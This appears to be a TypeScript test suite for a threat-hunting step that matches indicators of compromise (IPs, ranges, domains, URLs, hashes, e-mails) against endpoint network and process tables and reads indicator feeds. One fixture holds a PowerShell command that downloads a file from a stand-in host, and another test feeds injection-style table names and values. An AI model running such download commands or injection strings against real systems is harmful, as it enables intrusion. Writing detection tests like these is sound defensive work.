import assert from 'node:assert/strict';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { matchIndicatorsStep } from '../../../src/steps/matchIndicators.ts';
import { StepError } from '../../../src/steps/step.ts';
import { runPrepared } from '../support/preparedStep.ts';
import type { PreparedRun } from '../support/preparedStep.ts';
import { openWorkbench } from '../support/workbench.ts';
import type { Columns, Row, Workbench } from '../support/workbench.ts';

const network: Columns = {
  Timestamp: 'datetime',
  DeviceName: 'string',
  ActionType: 'string',
  LocalIP: 'string',
  RemoteIP: 'string',
  RemoteUrl: 'string',
  AdditionalFields: 'dynamic',
};
const processes: Columns = {
  Timestamp: 'datetime',
  DeviceName: 'string',
  FileName: 'string',
  SHA1: 'string',
  MD5: 'string',
  ProcessCommandLine: 'string',
};
const at = (second: number): string =>
  new Date(Date.parse('2025-05-07T12:00:00Z') + second * 1000).toISOString();

describe('match-indicators', function () {
  this.timeout(90_000);
  let bench: Workbench;
  let folder: string;
  before(async () => {
    bench = await openWorkbench();
    folder = await mkdtemp(join(tmpdir(), 'hunt-indicators-'));
  });
  after(async () => {
    await bench.dispose();
    await rm(folder, { recursive: true, force: true });
  });
  const run = (args: object): Promise<PreparedRun> =>
    runPrepared(bench, matchIndicatorsStep, args, { folder });

  async function tables(net: readonly Row[], started: readonly Row[] = []): Promise<void> {
    await bench.table(
      'DeviceNetworkEvents',
      network,
      net.map((row, index) => ({ Timestamp: at(index), DeviceName: 'pc-1', LocalIP: '10.0.0.5', ...row })),
    );
    await bench.table(
      'DeviceProcessEvents',
      processes,
      started.map((row, index) => ({ Timestamp: at(100 + index), DeviceName: 'pc-2', ...row })),
    );
  }
  const seen = ({ rows }: PreparedRun): string[] =>
    rows.map((row) =>
      ['Indicator', 'Table', 'Column', 'Value']
        .map((name) => (typeof row[name] === 'string' ? row[name] : ''))
        .join(' | '),
    );

  it('finds each type of indicator in its column, with time, device, source and the whole row', async () => {
    const sha1 = 'a1'.repeat(20);
    await tables(
      [
        { RemoteIP: '198.51.100.7', RemoteUrl: '' },
        { RemoteIP: '203.0.113.77' },
        { RemoteIP: '192.0.2.1', RemoteUrl: 'cdn.evil.example' },
        { RemoteIP: '192.0.2.1', RemoteUrl: 'https://bad.example:443/Drop.exe?id=1' },
        { RemoteIP: '2001:DB8::5' },
      ],
      [
        { SHA1: sha1.toUpperCase() },
        {
          ProcessCommandLine: 'powershell iwr "http://198.51.100.7:8080/x" -o c:\\x; mail user@evil.example',
        },
      ],
    );
    const found = await run({
      indicators: [
        '198[.]51[.]100[.]7',
        '203.0.113.0/24',
        'evil[.]example',
        'hxxp://bad[.]example/drop.exe',
        '2001:db8:0:0::5',
        sha1,
        'user[@]evil[.]example',
      ],
    });
    assert.deepEqual(seen(found), [
      '198.51.100.7 | DeviceNetworkEvents | RemoteIP | 198.51.100.7',
      '203.0.113.0/24 | DeviceNetworkEvents | RemoteIP | 203.0.113.77',
      'evil.example | DeviceNetworkEvents | RemoteUrl | cdn.evil.example',
      'http://bad.example/drop.exe | DeviceNetworkEvents | RemoteUrl | https://bad.example:443/Drop.exe?id=1',
      '2001:db8:0:0::5 | DeviceNetworkEvents | RemoteIP | 2001:DB8::5',
      `${sha1} | DeviceProcessEvents | SHA1 | ${sha1.toUpperCase()}`,
      '198.51.100.7 | DeviceProcessEvents | ProcessCommandLine | http://198.51.100.7:8080/x',
      'evil.example | DeviceProcessEvents | ProcessCommandLine | user@evil.example',
      'user@evil.example | DeviceProcessEvents | ProcessCommandLine | user@evil.example',
    ]);
    const [first] = found.rows;
    assert.deepEqual(
      [first?.['Timestamp'], first?.['DeviceName'], first?.['Type'], first?.['Source'], first?.['Rows']],
      ['2025-05-07T12:00:00.0000000Z', 'pc-1', 'ipv4', 'this cell:1', 1],
    );
    assert.equal((first?.['Row'] as { readonly RemoteIP: string }).RemoteIP, '198.51.100.7');
    assert.deepEqual(found.notices, ['Looked for 7 indicators.']);
  });

  it('does not find what only looks alike', async () => {
    await tables(
      [
        { RemoteIP: '198.51.100.70', RemoteUrl: 'notevil.example' },
        { RemoteIP: '203.0.114.0', RemoteUrl: 'evil.example.com' },
        { RemoteIP: '203.0.112.255', RemoteUrl: 'http://bad.example/drop.exe2' },
        { RemoteIP: '10.198.51.100', RemoteUrl: 'http://root.example/other' },
      ],
      [{ ProcessCommandLine: 'copy evil.example2 198.51.100.71', SHA1: 'a1'.repeat(20) + '0' }],
    );
    const found = await run({
      indicators: [
        '198.51.100.7',
        '203.0.113.0/24',
        'evil.example',
        'http://bad.example/drop.exe',
        'http://root.example/',
        'a1'.repeat(20),
      ],
    });
    assert.deepEqual(seen(found), []);
  });

  it('takes both ends of a range and no more', async () => {
    await tables(
      ['203.0.112.255', '203.0.113.0', '203.0.113.255', '203.0.114.0', '::ffff:203.0.113.9'].map(
        (RemoteIP) => ({ RemoteIP }),
      ),
    );
    const found = await run({ indicators: '203.0.113.0/24', in: 'DeviceNetworkEvents' });
    assert.deepEqual(
      found.rows.map((row) => row['Value']),
      ['203.0.113.0', '203.0.113.255', '::ffff:203.0.113.9'],
    );
  });

  it('looks into dynamic columns, and counts rows that are alike', async () => {
    const row = {
      Timestamp: at(0),
      RemoteIP: '192.0.2.1',
      AdditionalFields: { dns: ['a.evil.example.', 'x'] },
    };
    await tables([row, row]);
    const found = await run({ indicators: 'evil.example' });
    assert.deepEqual(
      found.rows.map((one) => [one['Column'], one['Value'], one['Rows']]),
      [['AdditionalFields', 'a.evil.example', 2]],
    );
  });

  it('does not search its own results and lists', async () => {
    await tables([{ RemoteIP: '198.51.100.7' }]);
    const { kql } = await run({ indicators: '198.51.100.7' });
    await bench.query(`${kql}\n| as Matches`);
    const found = await run({ indicators: '198.51.100.7' });
    assert.deepEqual(
      found.rows.map((row) => row['Table']),
      ['DeviceNetworkEvents'],
    );
  });

  it('joins a list of many thousand as a table, tells of junk and keeps it with its line', async () => {
    const lines = Array.from({ length: 5000 }, (_, index) =>
      index === 2500 ? '198.51.100.7,C2' : index % 100 === 3 ? `??,${index}` : `host-${index}.example,x`,
    );
    await writeFile(join(folder, 'feed.csv.gz'), gzipSync(['indicator,comment', ...lines].join('\n')));
    await tables([{ RemoteIP: '198.51.100.7', RemoteUrl: 'www.host-4999.example' }]);
    const found = await run({ from: 'feed.csv.gz' });
    assert.deepEqual(
      found.rows.map((row) => [row['Indicator'], row['Source'], row['Note']]),
      [
        ['198.51.100.7', 'feed.csv.gz:2502', 'C2'],
        ['host-4999.example', 'feed.csv.gz:5001', 'x'],
      ],
    );
    assert.ok(found.kql.length < 20_000);
    assert.deepEqual(found.notices, [
      'Looked for 4950 indicators.',
      '50 entries were not used and stand in the table Indicators_rejects. The first: feed.csv.gz, line 5: it is no address, domain, URL, hash or e-mail address.',
    ]);
    const rejects = await bench.query('Indicators_rejects | summarize count(), min(line), max(line)');
    assert.deepEqual(Object.values(rejects[0] ?? {}), [50, 5, 4905]);
  });

  it('puts the list into the query for another engine, and says when it is too long', async () => {
    await writeFile(
      join(folder, 'long.txt'),
      Array.from({ length: 10_001 }, (_, index) => `h${index}.example`).join('\n'),
    );
    const remote = (args: object): Promise<PreparedRun> =>
      runPrepared(bench, matchIndicatorsStep, args, { folder, isRemote: true });
    await assert.rejects(remote({ from: 'long.txt' }), /10,001 indicators do not fit/);
    await writeFile(
      join(folder, 'long.txt'),
      Array.from({ length: 600 }, (_, index) => `h${index}.example`).join('\n'),
    );
    assert.match((await remote({ from: 'long.txt' })).kql, /"h599\.example", "domain"/);
  });

  it('finds nothing in empty tables', async () => {
    await tables([]);
    assert.deepEqual((await run({ indicators: '198.51.100.7' })).rows, []);
  });

  it('takes hostile names and indicators as text', async () => {
    await bench.table(`Odd'] | take 1`, { 'src ip"]': 'string', 'a\\b': 'string' }, [
      { 'src ip"]': '198.51.100.7', 'a\\b': 'http://x.example/");drop' },
    ]);
    const found = await run({
      indicators: ['198.51.100.7', 'http://x.example/");drop'],
      in: `Odd'] | take 1`,
    });
    assert.deepEqual(
      found.rows.map((row) => row['Column']),
      ['src ip"]', 'a\\b'],
    );
  });

  describe('what is wrong', () => {
    const fails = (args: object, path: readonly unknown[], message: RegExp): Promise<void> =>
      assert.rejects(run(args), (error) => {
        assert.ok(error instanceof StepError);
        assert.match(error.message, message);
        assert.deepEqual(error.path, path);
        return true;
      });

    it('names a missing file, table and column', async () => {
      await fails({ from: 'nope.csv' }, ['from'], /'nope.csv' was not found/);
      await fails({ indicators: ['1.2.3.4'], in: ['Nope'] }, ['in'], /no table "Nope"/);
      await bench.table('Numbers', { A: 'long' }, []);
      await fails(
        { indicators: ['1.2.3.4'], in: 'Numbers' },
        ['in'],
        /no column that can hold an indicator\. It has A/,
      );
    });

    it('says when a list holds no indicator, and where the first junk is', async () => {
      await writeFile(join(folder, 'junk.txt'), '# only\nwords here\n');
      await fails({ from: 'junk.txt' }, ['from'], /no indicator.*1 entry is none; the first, junk\.txt:2:/);
    });

    it('says which JSON it reads', async () => {
      await writeFile(join(folder, 'other.json'), '{"a": 1}');
      await fails({ from: 'other.json' }, ['from'], /neither a STIX bundle .* nor MISP/);
      await writeFile(join(folder, 'cut.json'), '{"type": "bundle", "obj');
      await fails({ from: 'cut.json' }, ['from'], /begins like JSON but is none/);
    });

    it('asks before it reads a file outside', async () => {
      const outside = await mkdtemp(join(tmpdir(), 'hunt-outside-'));
      await writeFile(join(outside, 'x.txt'), '1.2.3.4');
      await fails({ from: join(outside, 'x.txt') }, ['from'], /was not allowed/);
      await rm(outside, { recursive: true });
    });

    it('wants indicators', () => {
      assert.equal(matchIndicatorsStep.arguments.safeParse({}).success, false);
      assert.equal(
        matchIndicatorsStep.arguments.safeParse({ indicators: 'a.example', list: 'a b' }).success,
        false,
      );
    });
  });
});
